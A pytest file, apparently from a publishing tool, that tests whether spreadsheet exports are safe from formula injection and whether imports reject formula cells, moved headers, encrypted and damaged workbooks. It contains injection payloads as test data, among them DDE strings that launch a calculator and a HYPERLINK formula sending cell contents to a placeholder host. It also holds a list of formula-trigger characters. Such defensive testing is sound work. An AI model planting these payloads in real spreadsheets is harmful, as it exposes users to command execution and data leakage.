"""Spreadsheets that cannot hurt: nothing written runs as a formula, nothing read is a formula, no import half-done.

Promises of issue 16 (items 3 and 5), each tested as an attacker or a careless clerk would try it:

* every cell the publisher writes (the template, ``export decision|notice``, the open-data CSV) holds
  text a spreadsheet will not run, however hostile the data: checked by opening each file with
  openpyxl and the csv module, as Excel would, never by reading our own helper's verdict;
* a workbook or CSV that is hostile or broken (formula cells, headers moved or renamed, a password,
  a damaged zip) is refused with a message naming the sheet and cell, exit 1, no traceback, and
  ``data/`` byte-identical: run in a subprocess through the installed command, like the corpus;
* (the third, an import killed half-way, is tests/test_sheets_atomic.py.)
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import msoffcrypto.format.ooxml
import openpyxl
import pytest
import yaml
from openpyxl.worksheet.formula import ArrayFormula

from publisher.data.dataset import load_dataset
from publisher.sheets.columns import columns_of
from publisher.sheets.formulas import inert, trigger
from publisher.site.model import build_site_model
from publisher.site.open_data import build_open_data

from .sheets_support import DECISION, PERSON_LI, cli, fill, make_template, run, tiny_copy, tree_bytes

STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
"""What must never begin a written cell (OWASP's list and the full-width forms), checked independently."""


@pytest.fixture
def data(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tiny_copy(tmp_path)


# --- the one helper ----------------------------------------------------------------------------

@pytest.mark.parametrize(("text", "safe"), [
    ("=1+1", "'=1+1"),
    ("+86 138", "'+86 138"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("＝HYPERLINK(1)", "'＝HYPERLINK(1)"),  # full-width, as typed with a Chinese input method
    ("﹦1", "'﹦1"),  # small form: NFKC folds it to "=" as well
    ("  =1", "'  =1"),  # leading spaces: LibreOffice can trim them before parsing
    ("\u3000＋1", "'\u3000＋1"),
    ("王芳", "王芳"),
    ("重庆某某-公司", "重庆某某-公司"),
    ("'=1", "'=1"),  # already quoted
    ("", ""),
])
def test_inert_quotes_exactly_what_a_spreadsheet_would_run(text: str, safe: str) -> None:
    assert inert(text) == safe
    assert (trigger(text) is None) == (text == safe)


def test_inert_leaves_numbers_and_dates_alone() -> None:
    assert inert(-3) == -3 and inert(2.5) == 2.5 and inert(date(2026, 1, 1)) == date(2026, 1, 1) and inert(None) is None


# --- nothing written runs ------------------------------------------------------------------------

PAYLOADS = {
    "decision_title": "=HYPERLINK(\"http://x.invalid/?\"&A1,\"点此查看\")",
    "decision_number": "-2+3+cmd|' /C calc'!A0",
    "notice_title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "recommender": "+两江新区",
    "collective_name": "=1+1车间",
    "collective_unit": "＝重庆某某汽车有限公司",
    "person_name": "=王芳",
    "person_unit": "-重庆某某电子有限公司",
    "person_position": "@测试工程师",
    "person_ethnicity": "＋土家族",
    "person_office": "+测试部",
}


def _edit(path: Path, change: Callable[[dict[str, Any]], None]) -> None:
    values = yaml.safe_load(path.read_text(encoding="utf-8"))
    change(values)
    path.write_text(yaml.safe_dump(values, allow_unicode=True, sort_keys=False), encoding="utf-8")


def hostile(data: Path) -> Path:
    """The tiny data set with a formula in every text that reaches a written spreadsheet cell."""
    p = PAYLOADS
    _edit(data / "recommenders.yaml", lambda v: v["recommenders"][0].update(name=p["recommender"]))
    _edit(data / "nominees" / "liangjiang-c-zongzhuang.yaml",
          lambda v: v.update(name=p["collective_name"], unit=p["collective_unit"], status="commended"))
    _edit(data / "nominees" / "liangjiang-wang-fang.yaml",
          lambda v: v.update(name=p["person_name"], unit=p["person_unit"], position=p["person_position"],
                             ethnicity=p["person_ethnicity"], office=p["person_office"], status="commended"))
    _edit(data / "notices" / "2026-city.yaml", lambda v: v.update(title=p["notice_title"]))
    decision = yaml.safe_load(DECISION)
    decision.update(title=p["decision_title"], document_number=p["decision_number"])
    (data / "decision.yaml").write_text(yaml.safe_dump(decision, allow_unicode=True), encoding="utf-8")
    load_dataset(data)  # the hostile values are valid data: only the writers stand between them and Excel
    return data


def _xlsx_cells(path: Path) -> list[tuple[str, Any, str]]:
    """(sheet!cell, value, data_type) of every cell of every sheet, hidden ones included."""
    book = openpyxl.load_workbook(path)
    return [(f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
            for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _csv_cells(raw: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")) for cell in row]


def _runs(value: object) -> bool:
    return isinstance(value, str) and (value[:1] in STARTS or value.lstrip()[:1] in STARTS)


def test_no_written_cell_is_a_formula_however_hostile_the_data(data: Path) -> None:
    hostile(data)
    written = {"template.xlsx": ("template", "template.xlsx"),
               "decision.xlsx": ("export", "decision", "decision.xlsx", "--today", "2026-10-21"),
               "notice.xlsx": ("export", "notice", "2026-city", "notice.xlsx", "--today", "2026-09-29")}
    texts: list[str] = []
    for name, args in written.items():
        result = run(*args, "--data", str(data))
        assert result.exit_code == 0, result.output
        for where, value, kind in _xlsx_cells(Path(name)):
            assert kind not in ("f", "e"), f"{name} {where}: {value!r} stored as {kind}"
            assert not _runs(value), f"{name} {where}: {value!r}"
            if isinstance(value, str):
                texts.append(value)
    model = build_site_model(load_dataset(data), date(2026, 10, 21))
    files = build_open_data(model)
    csvs = {path: data for path, data in files.items() if path.endswith(".csv")}
    assert set(csvs) == {"data/notices/2026-city.csv", "data/decision.csv"}
    for path, raw in csvs.items():
        for cell in _csv_cells(raw):
            assert not _runs(cell), f"{path}: {cell!r}"
            texts.append(cell)
    # the payloads did reach the files, quoted: the test is not passing on empty sheets
    for key in ("decision_title", "recommender", "collective_name", "person_name", "person_unit", "person_position"):
        assert any(text.startswith("'" + PAYLOADS[key]) for text in texts), key
    assert any(PAYLOADS["notice_title"] in text for text in texts)
    # JSON is no spreadsheet: it keeps the value exactly
    assert f'"name": "{PAYLOADS["person_name"]}"' in files["data/decision.json"].decode("utf-8")


# --- hostile and broken files are refused, data/ untouched ---------------------------------------

def _person(**changes: Any) -> dict[str, Any]:
    return {k: v for k, v in {**PERSON_LI, **changes}.items() if v is not None}


def _sheet(template: Path, out: str, rows: list[dict[str, Any]],
           edit: Callable[[openpyxl.Workbook], None] | None = None) -> Path:
    path = fill(template, Path(out), {"个人": rows})
    if edit is not None:
        book = openpyxl.load_workbook(path)
        edit(book)
        book.save(path)
    return path


def _text_cell(book: openpyxl.Workbook, ref: str, text: str) -> None:
    """A string cell holding text that starts with "=": what a clerk gets typing '=… or pasting as text."""
    cell = book["个人"][ref]
    cell.value = text
    cell.data_type = "s"


def _patch_zip(path: Path, change: Callable[[str, bytes], bytes | None]) -> Path:
    """Rewrite the members of a workbook's zip; ``change`` returns None to leave a member out."""
    members = []
    with zipfile.ZipFile(path) as old:
        for info in old.infolist():
            members.append((info, change(info.filename, old.read(info.filename))))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for info, raw in members:
            if raw is not None:
                new.writestr(info, raw)
    return path


def _sheet_file(path: Path, title: str) -> str:
    """The zip member holding sheet ``title``."""
    book = openpyxl.load_workbook(path, read_only=True)
    index = book.sheetnames.index(title)
    book.close()
    return f"xl/worksheets/sheet{index + 1}.xml"


def formula_with_cached_value(template: Path) -> Path:
    """A formula whose last computed value is valid: reading values only would import it silently."""
    path = _sheet(template, "cached.xlsx", [_person(出生年月='=TEXT(DATE(1979,11,1),"yyyy-mm")')])
    member = _sheet_file(path, "个人")

    def cache(name: str, raw: bytes) -> bytes:
        if name != member:
            return raw
        return re.sub(rb'<c r="F2"><f>(.*?)</f><v\s*/?>(</v>)?', rb'<c r="F2" t="str"><f>\1</f><v>1979-11</v>', raw)

    _patch_zip(path, cache)
    assert openpyxl.load_workbook(path, data_only=True)["个人"]["F2"].value == "1979-11"
    return path


def array_formula(template: Path) -> Path:
    def edit(book: openpyxl.Workbook) -> None:
        book["个人"]["L2"] = ArrayFormula("L2", "=SUM({10,11})")
    return _sheet(template, "array.xlsx", [_person()], edit)


def headers_in_row_3(template: Path) -> Path:
    def edit(book: openpyxl.Workbook) -> None:
        sheet = book["个人"]
        sheet.insert_rows(1, 2)
        sheet["A1"] = "2026年推荐对象信息表"
    return _sheet(template, "title.xlsx", [_person()], edit)


def renamed_column(template: Path) -> Path:
    def edit(book: openpyxl.Workbook) -> None:
        book["个人"]["F1"] = "出生日期"
    return _sheet(template, "renamed.xlsx", [_person()], edit)


def missing_column(template: Path) -> Path:
    def edit(book: openpyxl.Workbook) -> None:
        book["个人"].delete_cols(3)  # 性别
    return _sheet(template, "missing.xlsx", [_person()], edit)


def extra_column(template: Path) -> Path:
    def edit(book: openpyxl.Workbook) -> None:
        sheet = book["个人"]
        col = len(columns_of("individual")) + 1
        sheet.cell(1, col, "备注")
        sheet.cell(2, col, "优先考虑")
    return _sheet(template, "extra.xlsx", [_person()], edit)


def renamed_sheet(template: Path) -> Path:
    def edit(book: openpyxl.Workbook) -> None:
        book["个人"].title = "Sheet1"
    return _sheet(template, "sheet1.xlsx", [_person()], edit)


def no_known_sheet(template: Path) -> Path:
    book = openpyxl.Workbook()
    book.active.title = "推荐名单"
    book.save("nosheet.xlsx")
    return Path("nosheet.xlsx")


def empty_template(template: Path) -> Path:
    return template


def damaged_sheet(template: Path) -> Path:
    path = _sheet(template, "damaged.xlsx", [_person()])
    member = _sheet_file(path, "个人")
    return _patch_zip(path, lambda name, raw: raw[: len(raw) // 2] if name == member else raw)


def no_workbook_part(template: Path) -> Path:
    path = _sheet(template, "parts.xlsx", [_person()])
    return _patch_zip(path, lambda name, raw: None if name == "xl/workbook.xml" else raw)


def truncated_zip(template: Path) -> Path:
    raw = _sheet(template, "truncated.xlsx", [_person()]).read_bytes()
    Path("truncated.xlsx").write_bytes(raw[: len(raw) // 2])
    return Path("truncated.xlsx")


def not_a_zip(template: Path) -> Path:
    Path("renamed.xlsx").write_text("姓名,推荐单位\n王芳,两江新区\n", encoding="utf-8")
    return Path("renamed.xlsx")


def empty_file(template: Path) -> Path:
    Path("empty.xlsx").write_bytes(b"")
    return Path("empty.xlsx")


def password_protected(template: Path) -> Path:
    plain = _sheet(template, "plain.xlsx", [_person()])
    with plain.open("rb") as source, Path("locked.xlsx").open("wb") as locked:
        msoffcrypto.format.ooxml.OOXMLFile(source).encrypt("recommender-2026", locked)
    return Path("locked.xlsx")


def old_format_renamed(template: Path) -> Path:
    Path("old.xlsx").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    return Path("old.xlsx")


def _csv(name: str, text: str) -> Callable[[Path], Path]:
    def make(template: Path) -> Path:
        Path(name).write_text(text, encoding="utf-8-sig")
        return Path(name)
    return make


CSV_HEADER = "姓名,推荐单位,性别,民族,政治面貌,出生年月,工作单位,职务,单位性质,职级,从业年限,简要事迹,事迹材料,报送日期,状态\n"
CSV_ROW = "{name},两江新区,女,苗族,群众,1980-01,{unit},工程师,企业,无行政职级,10,事迹。,材料。,2026-06-30,推荐\n"

FORMULA_HINT = "请改为直接填写文字或数字"
CASES: list[tuple[str, Callable[[Path], Path], list[str]]] = [
    ("formula-cell", lambda t: _sheet(t, "formula.xlsx", [_person(出生年月='=TEXT(DATE(1979,11,1),"yyyy-mm")')]),
     ['个人!F2: 出生年月 单元格是公式（=TEXT(DATE(1979,11,1),"yyyy-mm")），' + FORMULA_HINT]),
    ("formula-with-cached-value", formula_with_cached_value,
     ['个人!F2: 出生年月 单元格是公式（=TEXT(DATE(1979,11,1),"yyyy-mm")），' + FORMULA_HINT]),
    ("hyperlink-formula-in-name", lambda t: _sheet(t, "link.xlsx", [_person(姓名='=HYPERLINK("http://x.invalid","李秀英")')]),
     ['个人!A2: 姓名 单元格是公式（=HYPERLINK("http://x.invalid","李秀英")），' + FORMULA_HINT]),
    ("dde-formula-many-cells", lambda t: _sheet(t, "dde.xlsx", [_person(职务="=cmd|' /C calc'!A0"),
                                                               _person(姓名="张伟", 工作单位="=1+1")]),
     ["个人!I2: 职务 单元格是公式（=cmd|' /C calc'!A0）", "个人!G3: 工作单位 单元格是公式（=1+1）"]),
    ("array-formula", array_formula, ["个人!L2: 从业年限 单元格是公式（=SUM({10,11})）"]),
    ("formula-in-header", lambda t: _sheet(t, "header.xlsx", [_person()],
                                           lambda b: b["个人"].__setitem__("D1", '="民"&"族"')),
     ['个人!D1: 单元格是公式（="民"&"族"），' + FORMULA_HINT, "个人!第1行: 缺少必填的列“民族”（个人）"]),
    ("text-cell-starting-with-equals", lambda t: _sheet(t, "text.xlsx", [_person()],
                                                         lambda b: _text_cell(b, "A2", "=1+1")),
     ["个人!A2: 姓名 '=1+1' 以“=”开头，表格软件会把它当作公式运行：请删去开头的“=”，只写文字"]),
    ("csv-name-starting-with-equals", _csv("名单.csv", CSV_HEADER + CSV_ROW.format(name="=1+2", unit="某公司")),
     ["名单!A2: 姓名 '=1+2' 以“=”开头，表格软件会把它当作公式运行"]),
    ("csv-unit-full-width-equals", _csv("名单.csv", CSV_HEADER + CSV_ROW.format(name="王芳", unit="＝HYPERLINK(1)")),
     ["名单!G2: 工作单位 '＝HYPERLINK(1)' 以“＝”开头"]),
    ("csv-name-at-and-plus", _csv("名单.csv", CSV_HEADER + CSV_ROW.format(name="@SUM(1)", unit="某公司")
                                  + CSV_ROW.format(name="+王芳", unit="某公司")),
     ["名单!A2: 姓名 '@SUM(1)' 以“@”开头", "名单!A3: 姓名 '+王芳' 以“+”开头"]),
    ("csv-header-in-row-2", _csv("名单.csv", "推荐对象信息表\n" + CSV_HEADER + CSV_ROW.format(name="王芳", unit="某公司")),
     ["名单.csv 的表头应在第 1 行，但第 2 行才是表头：请删除它上面的 1 行"]),
    ("headers-in-row-3", headers_in_row_3,
     ["个人!第1行: 表头应在第 1 行，但第 3 行才是表头（姓名、推荐单位、性别……）：请删除它上面的 2 行（标题、说明等）后再导入"]),
    ("renamed-column", renamed_column,
     ["个人!F1: 不认识的列标题“出生日期”：是否应为“出生年月”？（这一列的内容不会被导入）",
      "个人!第1行: 缺少必填的列“出生年月”（个人）"]),
    ("missing-column", missing_column, ["个人!第1行: 缺少必填的列“性别”（个人）"]),
    ("extra-column", extra_column,
     ["个人!AA1: 不认识的列标题“备注”：请删除这一列，或改为模板中的列标题（这一列的内容不会被导入）"]),
    ("renamed-sheet", renamed_sheet,
     ["Sheet1!A1: 工作表“Sheet1”有“姓名”列和 1 行内容，但只导入名为“集体”和“个人”的工作表：请把它改名为“个人”"]),
    ("no-known-sheet", no_known_sheet, ["nosheet.xlsx 里没有名为“集体”或“个人”的工作表"]),
    ("empty-template", empty_template, ["nominees-template.xlsx 里没有可导入的数据行"]),
    ("damaged-sheet-xml", damaged_sheet, ["无法读取 damaged.xlsx：工作表“个人”的内容已损坏"]),
    ("workbook-part-missing", no_workbook_part, ["无法读取 parts.xlsx：工作簿的结构已损坏"]),
    ("truncated-zip", truncated_zip, ["无法打开 truncated.xlsx：不是有效的 .xlsx 工作簿"]),
    ("csv-renamed-to-xlsx", not_a_zip, ["无法打开 renamed.xlsx：不是有效的 .xlsx 工作簿"]),
    ("empty-file", empty_file, ["无法打开 empty.xlsx：不是有效的 .xlsx 工作簿"]),
    ("password-protected", password_protected, ["无法打开 locked.xlsx：工作簿设置了打开密码（已加密）"]),
    ("old-format-renamed", old_format_renamed, ["无法打开 old.xlsx：这是旧版 Excel 97-2003（.xls）或 WPS（.et）格式"]),
]


@pytest.mark.parametrize(("make", "messages"), [(m, e) for _, m, e in CASES], ids=[c[0] for c in CASES])
def test_hostile_or_broken_file_is_refused_by_cell_and_data_is_untouched(
        data: Path, make: Callable[[Path], Path], messages: list[str]) -> None:
    template = make_template(data.parent, data)
    path = make(template)
    before = tree_bytes(data)
    result = cli("import", path.name, cwd=data.parent)
    output = result.stdout + result.stderr
    assert result.returncode == 1, output
    assert "Traceback" not in output and "Error:" not in output
    for message in messages:
        assert message in output, f"{message!r} not in:\n{output}"
    assert tree_bytes(data) == before  # hidden files included: no staging folder left either


def test_a_reference_list_beside_a_filled_sheet_is_only_listed_as_ignored(data: Path) -> None:
    """Last year's list kept in the workbook for reference is no misplaced list: 个人 has the rows."""
    template = make_template(data.parent, data)

    def edit(book: openpyxl.Workbook) -> None:
        old = book.create_sheet("往年名单")
        old.append(["姓名", "工作单位"])
        old.append(["张三", "重庆某某机械厂"])
    _sheet(template, "with-reference.xlsx", [_person()], edit)
    result = cli("import", "with-reference.xlsx", cwd=data.parent)
    assert result.returncode == 0, result.stderr
    assert "已忽略工作表：往年名单（只导入“集体”和“个人”）" in result.stdout and "新增 1 个" in result.stdout
